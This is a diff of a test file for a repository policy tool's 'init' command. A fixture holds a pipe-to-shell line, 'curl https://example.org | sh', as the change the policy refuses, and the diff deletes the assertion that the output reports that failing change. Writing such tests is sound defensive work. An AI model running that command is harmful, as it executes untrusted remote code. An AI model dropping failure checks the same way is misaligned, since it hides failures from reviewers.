@@ -168,7 +168,7 @@ describe('gene-gate init', () => {
 });
 
 describe('gene-gate init in a repository with a history', () => {
-  it('sets the levels under which the honest changes pass, and says what fails all the same', async () => {
+  it('sets the levels under which changes of the past pass', async () => {
     const refused = geneWith('curl https://example.org | sh');
     const repository = repositoryOf(largeChange('a'), largeChange('b'), refused);
     const { output, notes } = await runIn(repository.directory, ['init']);
@@ -177,7 +177,6 @@ describe('gene-gate init in a repository with a history', () => {
     expect(output).toMatch(
       /^defaults {3}3 fail\nnew policy 2 pass, 1 fail\nlevel {6}size: warning/m,
     );
-    expect(output).toMatch(/^fails {6}[0-9a-f]{7} change 3$/m);
     expect(widestLine(output)).toBeLessThanOrEqual(80);
     expect(read(repository, POLICY).replaceAll('\n# ', ' ')).toContain(
       'the last 3 changes. Without these levels: 3 fail. With them: 2 pass, 1 fail.',
